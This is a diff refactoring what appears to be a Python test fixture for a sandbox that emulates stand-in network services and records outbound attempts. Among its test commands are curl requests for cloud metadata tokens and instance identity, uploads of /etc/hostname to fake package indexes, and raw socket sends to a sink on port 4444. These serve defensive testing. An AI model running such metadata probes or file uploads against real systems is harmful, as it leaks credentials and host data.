@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import re
+import struct
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Final
@@ -51,26 +52,18 @@ decoys:
   - {id: note, kind: text, place: /srv/store, service: store, template: "{password}"}
   - {id: key, kind: text, place: /srv/tools, service: tools, template: "{password}"}
 """
+_REQUEST: Final = {"method": "GET", "url": "http://replay.example/turns"}
+_TURNS: Final = (
+    {"status": 200, "headers": [], "content": {"text": text, "mimeType": "text/plain"}}
+    for text in ("first", WORD)
+)
+_LOG: Final = {
+    "version": "1.2",
+    "creator": {"name": "t", "version": "1"},
+    "entries": [{"request": _REQUEST, "response": turn} for turn in _TURNS],
+}
 FILES: Final = {
-    "files/replay.har": json.dumps(
-        {
-            "log": {
-                "version": "1.2",
-                "creator": {"name": "t", "version": "1"},
-                "entries": [
-                    {
-                        "request": {"method": "GET", "url": "http://replay.example/turns"},
-                        "response": {
-                            "status": 200,
-                            "headers": [],
-                            "content": {"text": text, "mimeType": "text/plain"},
-                        },
-                    }
-                    for text in ("first", WORD)
-                ],
-            }
-        }
-    ),
+    "files/replay.har": json.dumps({"log": _LOG}),
     "files/server.py": (
         "import http.server as h\n"
         "kept = [b'ready']\n"
@@ -98,11 +91,8 @@ FILES: Final = {
     "repositories/thing.git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = true\n",
 }
 FOLDERS: Final = (
-    "wheels",
-    "npm",
-    "deb",
-    "repositories/thing.git/objects/info",
-    "repositories/thing.git/refs/heads",
+    *("wheels", "npm", "deb"),
+    *(f"repositories/thing.git/{name}" for name in ("objects/info", "refs/heads")),
 )
 
 
@@ -115,10 +105,8 @@ def lay(folder: Path) -> Path:
         (folder / name).write_text(text)
     make_wheel(folder / "wheels", "lib", "1.0")
     make_deb(folder / "deb", "lib", "1.0")
-    make_tar(
-        folder / "npm/lib-1.0.0.tgz",
-        {"package/package.json": b'{"name": "lib", "version": "1.0.0"}'},
-    )
+    described = {"package/package.json": b'{"name": "lib", "version": "1.0.0"}'}
+    make_tar(folder / "npm/lib-1.0.0.tgz", described)
     for path in (folder, *folder.rglob("*")):
         path.chmod(0o755)
     policy = folder / "policy.yaml"
@@ -155,14 +143,11 @@ class Memory:
 
 
 _GET: Final = "curl -sS --max-time 60"
-_TOKEN: Final = (
-    f"{_GET} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 600'"
-    " http://169.254.169.254/latest/api/token"
-)
-_IDENTITY: Final = (
-    f'{_GET} -H "X-aws-ec2-metadata-token: $({_TOKEN})"'
-    " http://169.254.169.254/latest/dynamic/instance-identity/document"
-)
+_CLOUD: Final = "http://169.254.169.254/latest"
+_HEADER: Final = "X-aws-ec2-metadata-token"
+_TOKEN: Final = f"{_GET} -X PUT -H '{_HEADER}-ttl-seconds: 600' {_CLOUD}/api/token"
+_IDENTITY: Final = f'{_GET} -H "{_HEADER}: $({_TOKEN})" {_CLOUD}/dynamic/instance-identity/document'
+_TURN: Final = f"{_GET} http://replay.example/turns"
 _REPOSITORY: Final = "http://forge.example/thing.git"
 _PUSH: Final = f"""
 set -e; cd "$(mktemp -d)"; git init -q .; git config user.name x; git config user.email x@example.org
@@ -172,36 +157,28 @@ _LEAF: Final = (
     f"openssl s_client -connect {WORD}.board.example:443 -servername {WORD}.board.example <"
     " /dev/null 2> /dev/null | openssl x509 -noout -fingerprint -sha256"
 )
+_FETCH: Final = f'cd "$(mktemp -d)"; git init -q .; git fetch -q {_REPOSITORY} {{key}}'
 KEEPING: Final = (
-    Memory(
-        "har, whose turn it is",
-        f"{_GET} http://replay.example/turns",
-        f"{_GET} http://replay.example/turns",
-    ),
-    Memory(
-        "python, the app's memory",
-        f"{_GET} -d {WORD} http://app.example/",
-        f"{_GET} http://app.example/",
-    ),
-    Memory(
-        "cell, a target's memory",
-        f"{_GET} -d {WORD} http://db.example/",
-        f"{_GET} http://db.example/",
+    Memory("har, whose turn it is", _TURN, _TURN),
+    *(
+        Memory(name, f"{_GET} -d {WORD} {url}", f"{_GET} {url}")
+        for name, url in (
+            ("python, the app's memory", "http://app.example/"),
+            ("cell, a target's memory", "http://db.example/"),
+        )
     ),
     Memory("git, a pushed reference", _PUSH, f"git ls-remote {_REPOSITORY}"),
     Memory(
         "git, a pushed commit, by its id",
         _PUSH.replace(WORD, "another"),
-        f'cd "$(mktemp -d)"; git init -q .; git fetch -q {_REPOSITORY} {{key}} && git cat-file -t'
-        " {key}",
+        f"{_FETCH} && git cat-file -t {{key}}",
         "([0-9a-f]{40})",
         "commit",
     ),
     Memory(
         "metadata, a token",
         _TOKEN,
-        _GET + " -i -H 'X-aws-ec2-metadata-token: {key}'"
-        " http://169.254.169.254/latest/meta-data/instance-id",
+        f"{_GET} -i -H '{_HEADER}: {{key}}' {_CLOUD}/meta-data/instance-id",
         "(.+)",
         "HTTP/1.1 200",
     ),
@@ -232,51 +209,41 @@ class Void:
     event: tuple[str, str]
 
 
-_SAY: Final = """
+_TALK: Final = """
 import socket, sys
-s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 30)
-for line in sys.argv[3:]:
-    print(s.recv(999))
-    s.sendall(line.encode() + b"\\r\\n")
-print(s.recv(999))
+with socket.create_connection((sys.argv[1], int(sys.argv[2])), 30) as s:
+    for piece in sys.argv[3:]:
+        if piece == "hear":
+            print(s.recv(999))
+        elif piece == "a line":
+            print(s.makefile("rb").readline())
+        elif piece == "end":
+            s.shutdown(socket.SHUT_WR)
+        else:
+            s.sendall(bytes.fromhex(piece))
 """
-_SINK: Final = """
-import socket, sys
-s = socket.create_connection((sys.argv[1], 4444), 30)
-s.sendall(sys.argv[2].encode())
-s.shutdown(socket.SHUT_WR)
-print(s.recv(999))
-"""
-_POSTGRES: Final = """
-import socket, struct, sys
-said = b"\\0\\3\\0\\0user\\0" + sys.argv[1].encode() + b"\\0database\\0crm\\0\\0"
-with socket.create_connection(("postgres.example", 5432), 30) as s:
-    s.sendall(struct.pack(">I", len(said) + 4) + said)
-    print(s.recv(999))
-"""
-_SSH: Final = """
-import socket, sys
-with socket.create_connection(("ssh.example", 22), 30) as s:
-    s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\\r\\n")
-    print(s.makefile("rb").readline())
-"""
+
+
+def _talk(host: str, port: int, *pieces: bytes | str) -> tuple[str, ...]:
+    """Bytes are sent; what is heard, as words say."""
+    words = (piece.hex() if isinstance(piece, bytes) else piece for piece in pieces)
+    return ("python3", "-c", _TALK, host, str(port), *words)
+
+
+def _mail(*lines: str) -> tuple[str, ...]:
+    """A talk with the mail server."""
+    pieces = [piece for line in lines for piece in ("hear", f"{line}\r\n".encode())]
+    return _talk("mail.example", 25, *pieces, "hear")
+
+
+def _postgres(user: str) -> tuple[str, ...]:
+    """The first message."""
+    said = b"\0\3\0\0user\0" + user.encode() + b"\0database\0crm\0\0"
+    return _talk("postgres.example", 5432, struct.pack(">I", len(said) + 4) + said, "hear")
+
+
 _JSON: Final = f"{_GET} -H 'Content-Type: application/json'"
 _MODEL: Final = f"{_JSON} -H 'Authorization: Bearer x'"
-_MAIL: Final = (
-    "HELO cell",
-    "MAIL FROM:<a@board.example>",
-    f"RCPT TO:<{WORD}@outside.test>",
-    "DATA",
-    "text\r\n.",
-    "QUIT",
-)
-_ASK_MAIL: Final = (
-    "HELO cell",
-    f"VRFY {WORD}@outside.test",
-    "EXPN all",
-    "ETRN board.example",
-    "QUIT",
-)
 
 
 def _redis(*commands: str) -> str:
@@ -296,6 +263,21 @@ def _mcp(method: str, **params: object) -> str:
     )
 
 
+_POST: Final = f"{_MODEL} -d"
+_UPLOAD: Final = (
+    f"{_GET} -F :action=file_upload -F name={WORD} -F version=1 -F"
+    f" 'content=@/etc/hostname;filename={WORD}-1.tar.gz' http://index.example/legacy/"
+)
+_PACKAGE: Final = json.dumps(
+    {"name": WORD, "versions": {"1": {}}, "_attachments": {"a": {"data": "AA"}}}
+)
+_CHAT: Final = json.dumps({"model": "m", "messages": [{"role": "user", "content": WORD}]})
+_AND: Final = json.dumps({"model": "m", "input": "and?", "previous_response_id": "resp_1"})
+_ENVELOPE: Final = ("HELO cell", "MAIL FROM:<a@board.example>", f"RCPT TO:<{WORD}@outside.test>")
+_WHOIS: Final = ("HELO cell", f"VRFY {WORD}@outside.test", "EXPN all", "ETRN board.example", "QUIT")
+_RESOLVE: Final = ("getent", "ahostsv4", f"{WORD}.board.example")
+_APT: Final = f"http://apt.example/pool/{WORD}.deb"
+_ELSEWHERE: Final = "http://elsewhere.test"
 VOIDS: Final = (
     Void(
         "http, what was posted",
@@ -305,44 +287,32 @@ VOIDS: Final = (
     ),
     Void(
         "pypi, an upload",
-        shell(
-            f"{_GET} -F :action=file_upload -F name={WORD} -F version=1 -F"
-            f" 'content=@/etc/hostname;filename={WORD}-1.tar.gz' http://index.example/legacy/"
-        ),
+        shell(_UPLOAD),
         shell(f"{_GET} http://index.example/simple/ http://index.example/simple/{WORD}/"),
         ("network.attempt", WORD),
     ),
     Void(
         "npm, a package",
-        shell(
-            f"""{_JSON} -X PUT -d '{{"name": "{WORD}", "versions": {{"1": {{}}}}, "_attachments": {{"a": {{"data": "AA"}}}}}}' http://npm.example/{WORD}"""
-        ),
+        shell(f"{_JSON} -X PUT -d '{_PACKAGE}' http://npm.example/{WORD}"),
         shell(f"{_GET} http://npm.example/{WORD} 'http://npm.example/-/v1/search?text={WORD}'"),
         ("network.attempt", WORD),
     ),
     Void(
         "debian, an upload",
-        shell(f"{_GET} -T /etc/hostname http://apt.example/pool/{WORD}.deb"),
-        shell(
-            f"{_GET} http://apt.example/pool/{WORD}.deb"
-            " http://apt.example/dists/stable/main/binary-amd64/Packages"
-        ),
+        shell(f"{_GET} -T /etc/hostname {_APT}"),
+        shell(f"{_GET} {_APT} http://apt.example/dists/stable/main/binary-amd64/Packages"),
         ("network.http", WORD),
     ),
     Void(
         "smtp, a mail",
-        ("python3", "-c", _SAY, "mail.example", "25", *_MAIL),
-        ("python3", "-c", _SAY, "mail.example", "25", *_ASK_MAIL),
+        _mail(*_ENVELOPE, "DATA", "text\r\n.", "QUIT"),
+        _mail(*_WHOIS),
         ("network.attempt", WORD),
     ),
     Void(
         "openai, a conversation",
-        shell(
-            f"""{_MODEL} -d '{{"model": "m", "messages": [{{"role": "user", "content": "{WORD}"}}]}}' http://model.example/v1/chat/completions"""
-        ),
-        shell(
-            f"""{_MODEL} -d '{{"model": "m", "input": "and?", "previous_response_id": "resp_1"}}' http://model.example/v1/responses"""
-        ),
+        shell(f"{_POST} '{_CHAT}' http://model.example/v1/chat/completions"),
+        shell(f"{_POST} '{_AND}' http://model.example/v1/responses"),
         ("network.http", "http://model.example/v1/chat/completions"),
     ),
     Void(
@@ -353,14 +323,14 @@ VOIDS: Final = (
     ),
     Void(
         "postgres, a user",
-        ("python3", "-c", _POSTGRES, WORD),
-        ("python3", "-c", _POSTGRES, "anybody"),
+        _postgres(WORD),
+        _postgres("anybody"),
         ("network.stream", '"stand_in": "sql"'),
     ),
     Void(
         "ssh, a client's version",
-        ("python3", "-c", _SSH, WORD),
-        ("python3", "-c", _SSH, "anybody"),
+        _talk("ssh.example", 22, f"SSH-2.0-{WORD}\r\n".encode(), "a line"),
+        _talk("ssh.example", 22, b"SSH-2.0-anybody\r\n", "a line"),
         ("network.stream", '"stand_in": "jump"'),
     ),
     Void(
@@ -371,21 +341,16 @@ VOIDS: Final = (
     ),
     Void(
         "the catch-all, something sent",
-        shell(f"{_GET} -d {WORD} http://elsewhere.test/api/things"),
-        shell(f"{_GET} http://elsewhere.test/api/things http://elsewhere.test/{WORD}"),
+        shell(f"{_GET} -d {WORD} {_ELSEWHERE}/api/things"),
+        shell(f"{_GET} {_ELSEWHERE}/api/things {_ELSEWHERE}/{WORD}"),
         ("network.attempt", "elsewhere.test/api/things"),
     ),
     Void(
         "the sink, some bytes",
-        ("python3", "-c", _SINK, "203.0.113.5", WORD),
-        ("python3", "-c", _SINK, "203.0.113.5", "anything"),
+        _talk("203.0.113.5", 4444, WORD.encode(), "end", "hear"),
+        _talk("203.0.113.5", 4444, b"anything", "end", "hear"),
         ("network.stream", "203.0.113.5"),
     ),
-    Void(
-        "the resolver, a name",
-        ("getent", "ahostsv4", f"{WORD}.board.example"),
-        ("getent", "ahostsv4", f"{WORD}.board.example"),
-        ("network.dns", WORD),
-    ),
+    Void("the resolver, a name", _RESOLVE, _RESOLVE, ("network.dns", WORD)),
 )
 """Each takes it, says so on the record, and answers afterwards as before."""
